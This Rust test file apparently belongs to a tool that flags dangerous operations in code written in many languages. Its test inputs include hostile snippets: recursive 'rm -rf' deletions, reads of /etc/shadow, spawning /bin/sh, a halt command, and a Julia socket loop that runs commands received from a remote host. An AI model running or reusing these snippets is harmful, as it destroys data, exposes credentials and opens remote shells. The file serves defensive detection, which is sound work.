use super::recorder::{check, silent};
use crate::lang::Lang;

#[test]
fn programs_that_are_started_are_found() {
    let control = "Execute shell  [interactive] [remotely controlled] <network>";
    check(
        Lang::Other("julia"),
        &[
            ("run(`rm -rf /x`)", "shell: rm -rf /x"),
            (r#"print(open(f->read(f, String), "/etc/shadow"))"#, "Read /etc/shadow"),
        ],
    );
    check(
        Lang::Other("julia"),
        &[(
            "using Sockets; sock=connect(\"h\", 1); while true; cmd = readline(sock); ioo = IOBuffer(); run(pipeline(`$cmd`, stdout=ioo)); end",
            control,
        )],
    );
    check(Lang::Other("gnuplot"), &[(r#"system("rm -rf /x")"#, "shell: rm -rf /x")]);
    check(Lang::Other("octave"), &[(r#"system("/bin/sh")"#, "shell: /bin/sh")]);
    check(Lang::Other("haskell"), &[(r#"System.Process.callCommand "rm -rf /x""#, "shell: rm -rf /x")]);
    check(
        Lang::Other("groovy"),
        &[
            (r#""rm -rf /x".execute()"#, "shell: rm -rf /x"),
            (r#"["rm","-rf","/x"].execute()"#, "run rm -rf /x"),
        ],
    );
    check(
        Lang::Other("java"),
        &[
            (r#"Runtime.getRuntime().exec("halt");"#, "shell: halt"),
            (r#"new ProcessBuilder("rm","-rf","/x").start();"#, "run rm -rf /x"),
        ],
    );
    check(Lang::Other("erlang"), &[(r#"os:cmd("halt")."#, "shell: halt")]);
    check(Lang::Other("elixir"), &[(r#"System.cmd("rm", ["-rf", "/x"])"#, "run rm -rf /x")]);
    check(
        Lang::Other("go"),
        &[
            (
                "package main\nimport \"os\"\nfunc main(){\n\tb, _ := os.ReadFile(\"/etc/shadow\")\n}",
                "Read /etc/shadow",
            ),
            ("package main\nfunc main(){ exec.Command(\"rm\", \"-rf\", \"/x\").Run() }", "run rm -rf /x"),
            (
                "package main\nfunc main(){\n\tsyscall.Exec(\"/bin/sh\", []string{\"/bin/sh\", \"-i\"}, []string{})\n}",
                "run /bin/sh",
            ),
        ],
    );
    check(
        Lang::Other("emacs-lisp"),
        &[
            (r#"(term "/bin/sh")"#, "shell: /bin/sh"),
            (r#"(shell-command "rm -rf /x")"#, "shell: rm -rf /x"),
            (r#"(progn (delete-directory "/x" t))"#, "Delete /x [recursive]"),
        ],
    );
}

#[test]
fn what_cannot_be_read_is_a_gap_and_arithmetic_is_not() {
    check(
        Lang::Other("julia"),
        &[(r#"ccall((:system, "libc"), Cint, (Cstring,), x)"#, "gap Unfollowed Language julia")],
    );
    silent(Lang::Other("julia"), &["println(1 + 1)", "print(sqrt(2))", "println(\"hello\")"]);
    silent(Lang::Other("octave"), &["disp(1+1)", "x = [1 2 3]; disp(sum(x))"]);
    silent(Lang::Other("gnuplot"), &["plot sin(x)", "set terminal png; set output 'x.png'"]);
    silent(Lang::Other("emacs-lisp"), &["(message \"hi\")", "(princ (+ 1 2))"]);
    silent(Lang::Other("elixir"), &["IO.puts(1 + 1)"]);
}

#[test]
fn what_is_handed_on_and_lists_with_commas() {
    check(
        Lang::Other("elixir"),
        &[
            (r#""/x" |> File.rm_rf!()"#, "Delete /x [recursive]"),
            (r#"System.cmd("rm", ["-rf", "/x"])"#, "run rm -rf /x"),
            (r#"run "rm", "-rf", "/x""#, "run rm -rf /x"),
            (r#"write("/x/y", "z")"#, "Write /x/y = z [emptying]"),
        ],
    );
}
